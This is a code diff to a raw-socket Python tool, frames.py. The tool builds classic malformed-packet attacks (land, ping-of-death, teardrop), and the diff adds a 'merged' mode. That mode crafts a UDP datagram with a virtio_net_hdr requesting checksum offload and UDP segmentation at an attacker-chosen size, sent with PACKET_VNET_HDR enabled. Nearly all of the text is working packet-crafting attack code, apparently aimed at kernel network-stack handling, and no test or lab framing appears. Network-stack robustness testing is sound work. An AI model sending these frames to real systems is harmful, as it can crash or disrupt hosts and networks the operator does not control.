@@ -8,6 +8,8 @@
     frames.py land IFACE MAC ADDRESS PORT        a SYN from ADDRESS and PORT to themselves
     frames.py ping-of-death IFACE MAC ADDRESS    a last fragment that ends beyond 65,535
     frames.py teardrop IFACE MAC ADDRESS         two fragments that overlap
+    frames.py merged IFACE MAC ADDRESS PORT LENGTH SIZE   a UDP datagram of LENGTH bytes that the interface is told
+                                                 to be a row of such of SIZE
 """
 import ipaddress
 import random
@@ -83,6 +85,14 @@ def frames(what, args):
             yield syn(mac(args[0]), source, random.randrange(1024, 65536), address(args[1]), int(args[2]))
     elif what == "land":
         yield syn(mac(args[0]), address(args[1]), int(args[2]), address(args[1]), int(args[2]))
+    elif what == "merged":
+        length, size = int(args[3]), int(args[4])
+        datagram = struct.pack("!HHHH", 2000, int(args[2]), 8 + length, 0) + bytes(length)
+        pseudo = address("198.18.0.1") + address(args[1]) + struct.pack("!BBH", 0, 17, 8 + length)
+        datagram = datagram[:6] + struct.pack("!H", checksum(pseudo) ^ 0xFFFF) + datagram[8:]
+        # struct virtio_net_hdr: NEEDS_CSUM, GSO_UDP_L4
+        header = struct.pack("=BBHHHH", 1, 5, 42, size, 34, 6)
+        yield header + packet(mac(args[0]), address("198.18.0.1"), address(args[1]), 17, 0, datagram)
     elif what == "ping-of-death":
         yield fragment(args, 0, 65528, 64)
     elif what == "teardrop":
@@ -94,6 +104,8 @@ def frames(what, args):
 
 def main(what, iface, *args):
     wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    if what == "merged":
+        wire.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
     wire.bind((iface, 0))
     sent = 0
     for frame in frames(what, args):
